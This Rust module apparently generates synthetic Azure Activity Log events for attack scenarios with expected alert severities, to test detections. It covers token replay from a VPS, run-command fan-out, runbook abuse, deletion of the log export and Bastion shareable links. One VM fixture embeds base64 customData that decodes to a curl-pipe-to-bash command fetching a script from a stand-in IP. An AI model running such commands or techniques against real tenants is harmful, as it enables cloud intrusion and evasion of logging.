//! Azure attacks.

use cadet_core::Severity::{self, High, Low, Medium};
use jiff::{SignedDuration, Timestamp};

use super::{az_victim, day, step, time};
use crate::emit::azure::{Call, Caller};
use crate::emit::name_uuid;
use crate::net::{self, azure_app};
use crate::org::{Fleet, Zone, SUBS};
use crate::rng::Rng;
use crate::routine::azure::automation_account;
use crate::sim::{AzPersona, Gen};
use crate::Kind;

const RUN: &str = "Microsoft.Compute/virtualMachines/runCommand/action";

struct Op {
    name: &'static str,
    sub: usize,
    caller: Caller,
    ip: String,
}

impl Op {
    fn op(
        &self,
        g: &mut Gen,
        t: Timestamp,
        operation: &str,
        resource: &str,
        api: &str,
        expect: Option<Severity>,
    ) {
        self.call(g, t, (operation, resource, api), None, expect);
    }

    /// A write whose request body matters (seen through the Activity Log).
    fn write(
        &self,
        g: &mut Gen,
        t: Timestamp,
        (operation, resource): (&str, &str),
        body: &serde_json::Value,
        expect: Option<Severity>,
    ) {
        self.call(
            g,
            t,
            (operation, resource, "2024-07-01"),
            Some(body),
            expect,
        );
    }

    fn call(
        &self,
        g: &mut Gen,
        t: Timestamp,
        (operation, resource, api): (&str, &str, &str),
        body: Option<&serde_json::Value>,
        expect: Option<Severity>,
    ) {
        let call = Call {
            time: t,
            sub: SUBS[self.sub].id,
            caller: &self.caller,
            ip: Some(&self.ip),
            operation,
            resource,
            api,
            failed: false,
            body,
        };
        g.azure(&call, step(self.name, expect));
    }

    fn run(&self, g: &mut Gen, t: Timestamp, vm: &str, expect: Option<Severity>) {
        self.op(g, t, RUN, vm, "2024-07-01", expect);
    }
}

fn vms(g: &Gen, rng: &mut Rng, sub: usize, rgs: &[&str], day: i64, n: usize) -> Vec<String> {
    let mut all: Vec<String> = g
        .fleet
        .vms_alive(sub, None, day)
        .into_iter()
        .filter(|v| rgs.is_empty() || rgs.contains(&v.rg))
        .map(|v| v.id())
        .collect();
    if all.is_empty() {
        all = g
            .fleet
            .vms_alive(sub, None, day)
            .into_iter()
            .map(|v| v.id())
            .collect();
    }
    let mut out = Vec::new();
    while out.len() < n.min(all.len()) {
        let v = rng.pick(&all).clone();
        if !out.contains(&v) {
            out.push(v);
        }
    }
    out
}

fn mins(m: i64) -> SignedDuration {
    SignedDuration::from_mins(m)
}

fn vps(rng: &mut Rng) -> String {
    net::attacker_ip(rng).1
}

fn with_app(p: &AzPersona, app: &str) -> Caller {
    Caller {
        appid: app.into(),
        ..p.caller.clone()
    }
}

/// A stolen Entra administrator's token used from a VPS with `app`, in subscription `sub` (the
/// administrator's own when `None`): the day, the victim, the operator and the first step's time.
fn stolen_admin(
    g: &Gen,
    rng: &mut Rng,
    name: &'static str,
    sub: Option<usize>,
    app: &str,
) -> Option<(i64, AzPersona, Op, Timestamp)> {
    let (d, p) = victim(g, rng, Kind::AzureAdmin, 1)?;
    let t = time(g, rng, p.zone, d);
    let o = Op {
        name,
        sub: sub.unwrap_or(p.sub),
        caller: with_app(&p, app),
        ip: vps(rng),
    };
    Some((d, p, o, t))
}

/// A victim active on the attack day (people join and leave).
fn victim(g: &Gen, rng: &mut Rng, kind: Kind, room: i64) -> Option<(i64, AzPersona)> {
    (0..40).find_map(|_| {
        let d = day(g, rng, room);
        az_victim(g, rng, kind)
            .filter(|p| {
                g.identities
                    .get(&p.id)
                    .is_none_or(|i| i.from <= d - 3 && d < i.to)
            })
            .map(|p| (d, p))
    })
}

/// A token replayed from a VPS running commands on the victim's machines.
fn replay(
    g: &mut Gen,
    rng: &mut Rng,
    name: &'static str,
    kind: Kind,
    caller: impl Fn(&AzPersona) -> Caller,
    plan: &[Severity],
) {
    let Some((d, p)) = victim(g, rng, kind, 1) else {
        return;
    };
    let t = time(g, rng, p.zone, d);
    let o = Op {
        name,
        sub: p.sub,
        caller: caller(&p),
        ip: vps(rng),
    };
    for (k, sev) in plan.iter().enumerate() {
        let vm = vms(g, rng, p.sub, &p.rgs, d, 1);
        if let Some(vm) = vm.first() {
            o.run(g, t + mins(2 * k as i64 + rng.range(0, 2)), vm, Some(*sev));
        }
    }
}

pub(super) fn admin_replay(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    replay(
        g,
        rng,
        name,
        Kind::AzureAdmin,
        |p| with_app(p, azure_app::POWERSHELL),
        &[High, Medium, Medium],
    );
}

pub(super) fn new_hire_replay(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    replay(
        g,
        rng,
        name,
        Kind::AzureNewHire,
        |p| p.caller.clone(),
        &[Medium],
    );
}

pub(super) fn sp_secret_switch(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    replay(
        g,
        rng,
        name,
        Kind::DevOpsSp,
        |p| Caller {
            appidacr: "1",
            ..p.caller.clone()
        },
        &[High, High],
    );
}

pub(super) fn mi_outside(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    replay(
        g,
        rng,
        name,
        Kind::ManagedIdentity,
        |p| p.caller.clone(),
        &[High],
    );
}

/// Invoke-AzVMBulkCMD: every VM in turn.
pub(super) fn burst_fanout(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, p)) = victim(g, rng, Kind::AzureAdmin, 1) else {
        return;
    };
    let t = time(g, rng, p.zone, d);
    let zone = p.zone.unwrap_or(Zone::London);
    let o = Op {
        name,
        sub: p.sub,
        caller: with_app(&p, azure_app::POWERSHELL),
        ip: net::office_ip(rng, zone),
    };
    for (k, vm) in vms(g, rng, p.sub, &[], d, 30).iter().enumerate() {
        let expect = match k {
            0..=2 => None,
            3..=9 => Some(Medium),
            _ => Some(High),
        };
        o.run(
            g,
            t + SignedDuration::from_secs(20 * k as i64 + rng.range(0, 10)),
            vm,
            expect,
        );
    }
}

pub(super) fn grant_then_use(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, p)) = victim(g, rng, Kind::AzureAdmin, 1) else {
        return;
    };
    let t = time(g, rng, p.zone, d);
    let sub = SUBS[p.sub].id;
    let o = Op {
        name,
        sub: p.sub,
        caller: with_app(&p, azure_app::POWERSHELL),
        ip: vps(rng),
    };
    let assignment = format!(
        "/subscriptions/{sub}/providers/Microsoft.Authorization/roleAssignments/{}",
        rng.uuid()
    );
    o.op(
        g,
        t,
        "Microsoft.Authorization/roleAssignments/write",
        &assignment,
        "2022-04-01",
        None,
    );
    let sp = format!("backup-agent-{}", rng.hex(4));
    let new = Op {
        caller: Caller::app(name_uuid(&sp), name_uuid(&format!("{sp}-app")), &sp, "1"),
        ip: vps(rng),
        ..o
    };
    let later = t + mins(rng.range(30, 120));
    for (k, vm) in vms(g, rng, p.sub, &[], d, 2).iter().enumerate() {
        new.run(g, later + mins(2 * k as i64), vm, Some(High));
    }
}

pub(super) fn runbook_chain(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, p)) = victim(g, rng, Kind::AzureAdmin, 1) else {
        return;
    };
    let t = time(g, rng, p.zone, d);
    let o = Op {
        name,
        sub: 0,
        caller: with_app(&p, azure_app::POWERSHELL),
        ip: vps(rng),
    };
    let aa = automation_account(0);
    let rb = format!(
        "{aa}/runbooks/{}",
        rng.chars(15, b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
    );
    let steps: [(&str, String, Option<Severity>); 6] = [
        (
            "Microsoft.Automation/automationAccounts/runbooks/write",
            rb.clone(),
            None,
        ),
        (
            "Microsoft.Automation/automationAccounts/runbooks/draft/write",
            format!("{rb}/draft"),
            None,
        ),
        (
            "Microsoft.Automation/automationAccounts/runbooks/publish/action",
            rb.clone(),
            None,
        ),
        (
            "Microsoft.Automation/automationAccounts/webhooks/write",
            format!("{aa}/webhooks/{}", rng.hex(8)),
            Some(Medium),
        ),
        (
            "Microsoft.Automation/automationAccounts/jobs/write",
            format!("{aa}/jobs/{}", rng.uuid()),
            Some(High),
        ),
        (
            "Microsoft.Automation/automationAccounts/runbooks/delete",
            rb.clone(),
            None,
        ),
    ];
    for (k, (operation, res, expect)) in steps.iter().enumerate() {
        o.op(
            g,
            t + mins(k as i64 + rng.range(0, 1)),
            operation,
            res,
            "2023-11-01",
            *expect,
        );
    }
}

pub(super) fn low_and_slow(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    // An administrator with resource groups they never touched in their subscription.
    let Some((d, p, fresh)) = (0..40).find_map(|_| {
        let (d, p) = victim(g, rng, Kind::AzureAdmin, 9)?;
        let fresh: Vec<&str> = Fleet::resource_groups(p.sub)
            .into_iter()
            .filter(|r| !p.rgs.contains(r))
            .collect();
        (!fresh.is_empty()).then_some((d, p, fresh))
    }) else {
        return;
    };
    let rg = *rng.pick(&fresh);
    let zone = p.zone.unwrap_or(Zone::London);
    let mut n = 0;
    for day in d..g.clock.days {
        if n == 5 {
            break;
        }
        if !g.clock.workday(zone, day) {
            continue;
        }
        let t = g.clock.local(zone, day, rng.range(10 * 60, 17 * 60));
        let o = Op {
            name,
            sub: p.sub,
            caller: p.caller.clone(),
            ip: net::office_ip(rng, zone),
        };
        if let Some(vm) = vms(g, rng, p.sub, &[rg], day, 1).first() {
            o.run(g, t, vm, Some(if n == 0 { Medium } else { Low }));
            n += 1;
        }
    }
}

pub(super) fn aobo(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let d = day(g, rng, 1);
    let t = time(g, rng, None, d);
    let partner = "99999999-8888-4777-8666-555555555555";
    let caller = Caller {
        idp: Some(partner.into()),
        principal_type: "ForeignGroup",
        role: "Owner",
        mfa: false,
        ..Caller::user(
            name_uuid("admin@partner-csp"),
            "admin@partner-csp.onmicrosoft.com",
            "Partner Admin",
            azure_app::POWERSHELL,
            false,
        )
    };
    let o = Op {
        name,
        sub: 0,
        caller,
        ip: vps(rng),
    };
    for (k, vm) in vms(g, rng, 0, &["rg-data", "rg-app"], d, 2)
        .iter()
        .enumerate()
    {
        o.run(g, t + mins(3 * k as i64), vm, Some(High));
    }
}

pub(super) fn office_client(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, p)) = victim(g, rng, Kind::AzureAdmin, 1) else {
        return;
    };
    let t = time(g, rng, p.zone, d);
    let o = Op {
        name,
        sub: p.sub,
        caller: with_app(&p, azure_app::OFFICE),
        ip: vps(rng),
    };
    if let Some(vm) = vms(g, rng, p.sub, &p.rgs, d, 1).first() {
        o.op(g, t, RUN, vm, "2018-04-01", Some(High));
    }
}

pub(super) fn custom_script(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, _, o, t)) = stolen_admin(g, rng, name, Some(0), azure_app::CLI) else {
        return;
    };
    for (k, vm) in vms(g, rng, 0, &["rg-win"], d, 3).iter().enumerate() {
        let res = format!("{vm}/extensions/CustomScriptExtension");
        o.op(
            g,
            t + mins(k as i64),
            "Microsoft.Compute/virtualMachines/extensions/write",
            &res,
            "2024-07-01",
            Some(High),
        );
    }
}

/// An Entra administrator's token replayed from a VPS deletes the subscription's Activity Log
/// export, then runs a command.
pub(super) fn export_deleted(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, p, o, t)) = stolen_admin(g, rng, name, None, azure_app::POWERSHELL) else {
        return;
    };
    let export = format!(
        "/subscriptions/{}/providers/microsoft.insights/diagnosticSettings/setbypolicy_logAnalytics",
        SUBS[p.sub].id
    );
    o.op(
        g,
        t,
        "Microsoft.Insights/diagnosticSettings/delete",
        &export,
        "2021-05-01-preview",
        Some(High),
    );
    if let Some(vm) = vms(g, rng, p.sub, &p.rgs, d, 1).first() {
        o.run(g, t + mins(rng.range(3, 9)), vm, Some(High));
    }
}

/// A stolen administrator token from a VPS creates a Linux VM whose custom data downloads and
/// runs the attacker's script at first boot (cloud-init).
pub(super) fn custom_data_vm(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((_, p, o, t)) = stolen_admin(g, rng, name, None, azure_app::POWERSHELL) else {
        return;
    };
    let rg = p.rgs.first().copied().unwrap_or("rg-app");
    let vm = format!(
        "/subscriptions/{}/resourceGroups/{rg}/providers/Microsoft.Compute/virtualMachines/vm-{}",
        SUBS[p.sub].id,
        rng.chars(8, b"abcdefghijklmnopqrstuvwxyz0123456789")
    );
    let body = serde_json::json!({"location": "westeurope", "properties": {
        "hardwareProfile": {"vmSize": "Standard_B2s"},
        "osProfile": {"computerName": "vm", "adminUsername": "azureuser",
            "customData": "IyEvYmluL2Jhc2gKY3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L2kgfCBiYXNo"},
        "identity": {"type": "SystemAssigned"}}});
    o.write(
        g,
        t,
        ("Microsoft.Compute/virtualMachines/write", &vm),
        &body,
        Some(High),
    );
}

/// A stolen administrator token from a VPS creates a Bastion shareable link to two production
/// VMs: RDP or SSH for whoever holds the URL, no sign-in.
pub(super) fn bastion_link(g: &mut Gen, rng: &mut Rng, name: &'static str) {
    let Some((d, _, o, t)) = stolen_admin(g, rng, name, Some(0), azure_app::CLI) else {
        return;
    };
    let targets = vms(g, rng, 0, &[], d, 2);
    let bastion = format!(
        "/subscriptions/{}/resourceGroups/rg-hub-network/providers/Microsoft.Network/bastionHosts/bas-hub",
        SUBS[0].id
    );
    let body = serde_json::json!({"vms": targets.iter().map(|v| serde_json::json!({"vm": {"id": v}})).collect::<Vec<_>>()});
    o.write(
        g,
        t,
        (
            "Microsoft.Network/bastionHosts/createShareableLinks/action",
            &bastion,
        ),
        &body,
        Some(High),
    );
}
